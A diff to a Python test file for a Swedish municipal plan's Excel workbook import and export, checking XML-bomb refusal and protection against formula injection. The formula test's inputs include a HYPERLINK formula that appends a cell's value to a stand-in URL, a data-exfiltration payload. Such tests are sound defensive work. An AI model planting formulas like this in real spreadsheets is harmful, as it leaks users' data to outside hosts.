@@ -254,7 +254,10 @@ def test_a_workbook_with_an_xml_bomb_is_refused_unread(mjolby_plan):
     with pytest.raises(WorkbookInvalid) as raised:
         workbook_import(municipality=mjolby_plan.municipality, content=buffer.getvalue(), filename="b.xlsx")
     (error,) = raised.value.errors
-    assert "filen går inte att läsa som en Excel-arbetsbok" in str(error)
+    assert str(error) == (
+        "Arbetsboken: bladet ”Anvisningar” har en dokumenttypsdeklaration (DOCTYPE), "
+        "som Office-filer aldrig har."
+    )
     assert _counts() == before
 
 
@@ -280,15 +283,23 @@ def test_headers_are_checked_missing_unknown_and_twice(mjolby_plan):
 
 
 def test_a_text_that_looks_like_a_formula_stays_a_text(mjolby_plan):
-    activity = mjolby_plan.activities.order_by("order").first()
-    activity.title = '=HYPERLINK("http://example.org")'
-    activity.save()
+    titles = ['=HYPERLINK("http://example.org?d="&B2,"Se bilaga")', "+46 142 850 00", "-5 % i kostnader",
+              "@kommunstyrelsen", "#N/A"]  # fmt: skip
+    activities = list(mjolby_plan.activities.order_by("order")[: len(titles)])
+    for activity, title in zip(activities, titles, strict=True):
+        activity.title = title
+        activity.save()
     content = workbook_export(plan=mjolby_plan)
-    cell = _open(content)["Aktiviteter"]["C2"]
-    assert (cell.value, cell.data_type) == (activity.title, "s")
+    archive = zipfile.ZipFile(io.BytesIO(content))
+    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
+    cells = [row[2] for row in _open(content)["Aktiviteter"].iter_rows(min_row=2, max_row=len(titles) + 1)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(title, "s") for title in titles]
+    # Excel's quote prefix keeps the text a text when someone edits the cell.
+    assert [cell.quotePrefix for cell in cells] == [True, True, True, True, False]
     target = Municipality.objects.create(slug="kopia", name="Kopia")
     plan = workbook_import(municipality=target, content=content, filename="x.xlsx").plan
-    assert plan.activities.order_by("order").first().title == activity.title
+    assert list(plan.activities.order_by("order").values_list("title", flat=True)[: len(titles)]) == titles
 
 
 def test_the_commands_export_and_import(mjolby_plan, tmp_path):
